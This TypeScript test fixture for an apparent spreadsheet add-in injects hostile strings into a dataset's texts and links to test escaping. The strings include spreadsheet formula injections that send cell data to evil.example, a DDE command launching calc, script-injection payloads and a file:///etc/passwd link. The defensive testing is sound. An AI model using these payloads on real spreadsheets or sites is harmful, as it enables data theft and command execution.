import type { Edition } from "../src/core/edition/edition";
import type { Dataset } from "../src/core/record";
import type { TableLayout } from "../src/core/tables/table-layout";
import { realDataset } from "./real-dataset";

/** Beginnings that some program reads as more than text. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"',
  "+WEBSERVICE(A1)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,1)",
  "'=1+1",
  "''=1",
  '"=1+1"',
  "\t=1+1",
  "\u200b=1+1",
  "\u202e=1+1",
  "＝1+1",
  "<img src=x onerror=alert(1)>",
  "</td></table><script>alert(1)</script>",
  "';background:url(javascript:alert(1));x:'",
  "javascript:alert(1)",
  'x"),WEBSERVICE("http://evil.example',
  "]'#@[",
  "1E+5",
  "TRUE",
];

const HOSTILE_LINKS = [
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "file:///etc/passwd",
  "#Sheet1!A1",
  "http:evil",
  `https://evil.example/${"a".repeat(2_100)}`,
  "\u202ehttps://evil.example",
];

/** What programs read as more than words; links, ids and days have forms of their own. */
const IS_TEXT =
  /^(?:title|titleRu|en|ru|be|note|mention|publisher|family|given|short|apa|gost|bibtex|definition|container|place|about)$/;

/** The add-in's dataset with each of its texts made hostile, different ones still different, and each of its links. */
export function hostileDataset(): Dataset {
  let at = 0;
  const next = (list: readonly string[]) => list[at++ % list.length] ?? "";
  const spoil = (value: unknown, key: string): unknown => {
    if (Array.isArray(value)) return value.map((one) => spoil(one, key));
    if (typeof value === "object" && value !== null)
      return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, spoil(one, name)]));
    if (typeof value !== "string") return value;
    if (key === "url") return next(HOSTILE_LINKS);
    return IS_TEXT.test(key) && !(key === "place" && !/\s/.test(value))
      ? `${next(HOSTILE_TEXTS)}${value}`
      : value;
  };
  return spoil(structuredClone(realDataset), "") as Dataset;
}

/** A table with a chart, in which every text is the same. */
export function hostileLayout(edition: Edition, text: string): TableLayout {
  const [figure] = edition.dataset.figures;
  if (!figure) throw new Error("no figure");
  const number = {
    kind: "number" as const,
    figure,
    format: "0",
    formula: { name: "EDITION", arguments: [] },
  };
  return {
    id: "bad",
    title: text,
    about: text,
    chart: { type: "bar", label: "entity", value: "value" },
    columns: [
      { key: "entity", heading: text, kind: "text" },
      { key: "value", heading: `${text}${text}`, kind: "number" },
      { key: "source", heading: `${text}.`, kind: "link" },
    ],
    rows: [
      [{ kind: "text", text }, number, { kind: "link", text, url: text }],
      [{ kind: "text", text: `${text} ` }, number, { kind: "link", text, url: `https://${text}` }],
    ],
  };
}
